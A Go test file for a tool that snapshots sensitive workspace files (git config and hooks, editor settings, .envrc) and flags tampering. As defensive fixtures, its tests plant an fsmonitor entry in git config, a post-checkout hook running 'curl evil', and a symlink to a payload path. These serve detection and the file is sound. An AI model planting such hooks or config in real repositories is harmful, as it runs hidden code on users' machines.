package sentinel

import (
	"os"
	"path/filepath"
	"reflect"
	"testing"
)

func write(t *testing.T, root, rel, body string, mode os.FileMode) {
	t.Helper()
	p := filepath.Join(root, rel)
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(body), mode); err != nil {
		t.Fatal(err)
	}
	os.Chmod(p, mode)
}

func TestDiff(t *testing.T) {
	root := t.TempDir()
	write(t, root, ".git/config", "[core]\n", 0o644)
	write(t, root, ".git/hooks/pre-commit.sample", "#!/bin/sh\n", 0o755)
	write(t, root, ".vscode/settings.json", "{}", 0o644)
	write(t, root, ".envrc", "export A=1\n", 0o644)
	write(t, root, "src/main.go", "package main\n", 0o644) // not watched
	before, err := Take(root)
	if err != nil {
		t.Fatal(err)
	}
	if len(before) != 4 {
		t.Fatalf("baseline %v: want the 4 watched files", before)
	}

	// What an agent (or an attacker) in the guest could do.
	write(t, root, ".git/config", "[core]\n\tfsmonitor = /tmp/x\n", 0o644)
	write(t, root, ".git/hooks/post-checkout", "#!/bin/sh\ncurl evil\n", 0o755)
	os.Chmod(filepath.Join(root, ".vscode/settings.json"), 0o755)
	os.Remove(filepath.Join(root, ".envrc"))
	os.Symlink("/tmp/payload", filepath.Join(root, ".gitmodules"))
	write(t, root, "src/main.go", "package main // edited\n", 0o644)

	after, err := Take(root)
	if err != nil {
		t.Fatal(err)
	}
	got := Diff(before, after)
	want := []Change{
		{".envrc", "removed"},
		{".git/config", "changed"},
		{".git/hooks/post-checkout", "added"},
		{".gitmodules", "added"},
		{".vscode/settings.json", "changed"},
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("Diff = %v\nwant   %v", got, want)
	}
	if d := Diff(after, after); len(d) != 0 {
		t.Errorf("no change reported %v", d)
	}
}

func TestDirectoryReplacedByLink(t *testing.T) {
	root := t.TempDir()
	write(t, root, ".git/hooks/a", "x", 0o644)
	before, _ := Take(root)
	os.RemoveAll(filepath.Join(root, ".git/hooks"))
	os.Symlink("/tmp/elsewhere", filepath.Join(root, ".git/hooks"))
	after, err := Take(root)
	if err != nil {
		t.Fatal(err)
	}
	want := []Change{{".git/hooks", "added"}, {".git/hooks/a", "removed"}}
	if got := Diff(before, after); !reflect.DeepEqual(got, want) {
		t.Errorf("Diff = %v, want %v", got, want)
	}
}

func TestSaveLoad(t *testing.T) {
	p := filepath.Join(t.TempDir(), File)
	if _, ok, err := Load(p); ok || err != nil {
		t.Fatalf("missing baseline: ok=%v err=%v", ok, err)
	}
	s := Snapshot{".git/config": "abc"}
	if err := Save(s, func(b []byte) error { return os.WriteFile(p, b, 0o600) }); err != nil {
		t.Fatal(err)
	}
	got, ok, err := Load(p)
	if err != nil || !ok || !reflect.DeepEqual(got, s) {
		t.Errorf("Load = %v, %v, %v", got, ok, err)
	}
}
